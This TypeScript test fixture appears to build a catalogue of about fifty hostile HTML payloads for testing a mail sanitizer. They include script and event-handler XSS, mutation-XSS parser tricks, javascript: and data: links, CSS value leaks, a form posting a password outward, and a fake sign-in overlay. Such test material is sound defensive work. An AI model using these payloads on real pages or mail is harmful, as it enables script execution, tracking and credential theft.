/** Markup with bad intent, as it may stand in a mail; made here. */
export interface HostileHtml {
  name: string;
  html: string;
}

/** What each tries to run: whoever listens in the page hears that it ran. */
export const RAN = 'hostile-ran';

/**
 * Each tries to run something that tells the page of it, or to reach an address outside (`//host:port`): a path of its
 * own tells which one did.
 */
export function hostileHtml(outside: string): HostileHtml[] {
  const run = `top.postMessage('${RAN}','*');parent.postMessage('${RAN}','*');new Image().src='${outside}/ran'`;
  const js = run.replaceAll("'", '&#39;');
  const coded = run.replace(/./g, (letter) => `&#${letter.charCodeAt(0)};`);
  const base64 = btoa(`<script>${run}</script>`);
  const to = (path: string) => `${outside}/${path}`;
  const payloads: Record<string, string> = {
    'a script': `<script>${run}</script>`,
    'a script from outside': `<script src="${to('script.js')}"></script><script type="module" src="${to('m.js')}"></script>`,
    'a script in pieces': `<scr<script>ipt>${run}</scr</script>ipt><script>${run}</script >`,
    'a handler of a picture that fails': `<img src="x:" onerror="${js}">`,
    'a handler that is entities': `<img src="x:" onerror="${coded}">`,
    'handlers of what is shown': `<body onload="${js}" onpageshow="${js}"><div onanimationstart="${js}" style="animation:a 1ms">x</div><style>@keyframes a{}</style>`,
    'a handler of what unfolds': `<details open ontoggle="${js}"><summary>x</summary>y</details>`,
    'a handler of what takes the keyboard': `<input autofocus onfocus="${js}"><a href="#" autofocus onfocus="${js}" tabindex="0">x</a>`,
    'a handler of film and sound': `<video src="x:" onerror="${js}"></video><audio src="x:" onerror="${js}"></audio><video><source onerror="${js}"></video>`,
    'svg that loads': `<svg onload="${js}"></svg><svg><script>${run}</script></svg>`,
    'svg that moves': `<svg><animate onbegin="${js}" attributeName="x" dur="1ms"/><set onbegin="${js}" attributeName="x"/></svg>`,
    'svg that brings others': `<svg><image href="${to('svg-image')}"/><use href="${to('svg-use')}#x"/><feImage href="${to('svg-fe')}"/></svg>`,
    'svg with a page in it': `<svg><foreignObject><iframe src="javascript:${js}"></iframe></foreignObject></svg>`,
    'math with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math><math href="javascript:${js}">x</math>`,
    'what is read otherwise the second time, by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${coded}&gt;">`,
    'what is read otherwise the second time, by a form': `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${js}">`,
    'what is read otherwise the second time, by noscript': `<noscript><p title="</noscript><img src=x: onerror='${run.replaceAll("'", '&quot;')}'>"></noscript>`,
    'what is read otherwise the second time, by svg and style': `<svg></p><style><a id="</style><img src=x: onerror='${run.replaceAll("'", '&quot;')}'>">`,
    'links that run': `<a href="javascript:${js}">x</a><a href=" JaVa&Tab;ScRiPt:${js}">x</a><a href="vbscript:x">x</a>`,
    'links that bring their own page': `<a href="data:text/html;base64,${base64}">x</a><area href="javascript:${js}"><map name="m"><area shape="default" href="javascript:${js}"></map>`,
    'a page that goes elsewhere': `<meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
    'a page that goes on to what runs': `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64}">`,
    'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; img-src *"><script>${run}</script><img src="${to('own-policy')}">`,
    'another base for all addresses': `<base href="${outside}/" target="_top"><img src="base-image"><a href="base-link">x</a>`,
    'a form that sends itself': `<form id="f" action="${to('form')}" method="post"><input name="password" value="secret"><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
    'buttons that send elsewhere': `<form><button formaction="javascript:${js}">x</button><input type="image" src="${to('input-image')}" formaction="${to('formaction')}"></form><isindex action="javascript:${js}">`,
    'styles that run': `<div style="width:expression(${js})">x</div><div style="behavior:url(${to('x.htc')})">x</div><div style="-moz-binding:url(${to('x.xml')}#x)">x</div>`,
    'styles that load': `<div style="background:url(${to('style-url')});width:9px;height:9px">x</div><div style="background-image:image-set('${to('image-set')}' 1x);cursor:url(${to('cursor')}),auto">x</div>`,
    'a sheet that loads': `<style>@import url("${to('import.css')}");@import "${to('import-2.css')}";body{background:url("${to('sheet-url')}")}@font-face{font-family:f;src:url("${to('font')}")}body{font-family:f}</style>x`,
    'a sheet from outside': `<link rel="stylesheet" href="${to('sheet.css')}"><link rel="icon" href="${to('icon')}"><link rel="manifest" href="${to('manifest')}">`,
    'a sheet that tells what is typed': `<style>input[value^="s"]{background:url("${to('typed')}")}</style><input value="secret">`,
    'styles with hidden letters': `<div style="background:\\75\\72\\6c(${to('hidden-letters')});list-style:u\\72l(${to('list')})">x</div>`,
    'words over the whole page': `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="${to('over')}" target="_top">Sign in again</a></div><style>body,html{position:fixed;inset:0}</style>`,
    'a style that does not end with its page': `</style></body></html><script>${run}</script><style>*{display:none}</style><img src="${to('after-the-end')}">`,
    'pictures by other names': `<img srcset="${to('srcset')} 1x, ${to('srcset-2')} 2x"><picture><source srcset="${to('source')}"><img></picture><image src="${to('image')}">`,
    'backgrounds and posters': `<body background="${to('body')}"><table background="${to('table')}"><tr><td background="${to('td')}">x</td></tr></table><video poster="${to('poster')}"></video><img lowsrc="${to('lowsrc')}" dynsrc="${to('dynsrc')}"><bgsound src="${to('bgsound')}">`,
    'film, sound and their words': `<video autoplay src="${to('video')}"></video><audio autoplay src="${to('audio')}"></audio><video><track default src="${to('track')}"></video>`,
    'pages within the page': `<iframe src="${to('iframe')}"></iframe><iframe src="javascript:${js}"></iframe><iframe src="data:text/html;base64,${base64}"></iframe>`,
    'a page that is written into the page': `<iframe srcdoc="&lt;script&gt;${coded}&lt;/script&gt;&lt;img src=${to('srcdoc')}&gt;"></iframe>`,
    'frames, objects and what is embedded': `<frameset><frame src="${to('frame')}"></frameset><object data="${to('object')}"></object><object data="data:text/html;base64,${base64}"></object><embed src="${to('embed')}"><applet code="${to('applet')}"></applet><portal src="${to('portal')}"></portal>`,
    'what is fetched before it is wanted': `<link rel="prefetch" href="${to('prefetch')}"><link rel="preload" as="image" href="${to('preload')}"><link rel="modulepreload" href="${to('modulepreload')}"><link rel="prerender" href="${to('prerender')}"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to('speculation')}"]}]}</script>`,
    'names that are looked up before they are wanted': `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${outside}"><link rel="preconnect" href="${outside}" crossorigin>`,
    'a template and its shadow': `<template><script>${run}</script></template><div><template shadowrootmode="open"><img src="x:" onerror="${js}"><style>:host{background:url(${to('shadow')})}</style></template></div>`,
    'a comment that never ends': `<!-- <img src="--><img src="x:" onerror="${js}">//"><!--><script>${run}</script>--!><script>${run}</script><!--`,
    'signs of another language': `<![CDATA[<script>${run}</script>]]><?xml-stylesheet href="${to('xml.css')}"?><svg><![CDATA[><img src="x:" onerror="${js}">]]></svg>`,
    'elements that show what is in them': `<xmp><p title="</xmp><img src=x: onerror='${run.replaceAll("'", '&quot;')}'>"></xmp><textarea><img title="</textarea><img src=x: onerror='${run.replaceAll("'", '&quot;')}'>"></textarea>`,
    'an element that nobody knows': `<custom-element onfocus="${js}" tabindex="0" autofocus>x</custom-element><x contenteditable onblur="${js}" onfocus="${js}" autofocus>x</x>`,
    'a link that tells who clicked': `<a href="https://people.example/" ping="${to('ping')}" attributionsrc="${to('attribution')}">x</a><img attributionsrc="${to('attribution-2')}">`,
    'attributes that run into each other': `<img/src="x:"/onerror="${js}"/><img src=\`x:\`onerror="${js}"><a title='"><img src="x:" onerror="${js}">'>x</a>`,
    'popovers and dialogs': `<button popovertarget="p" autofocus>x</button><div id="p" popover onbeforetoggle="${js}">x</div><dialog open onclose="${js}" onfocusin="${js}"><input autofocus></dialog>`,
  };
  return Object.entries(payloads).map(([name, html]) => ({ name, html }));
}
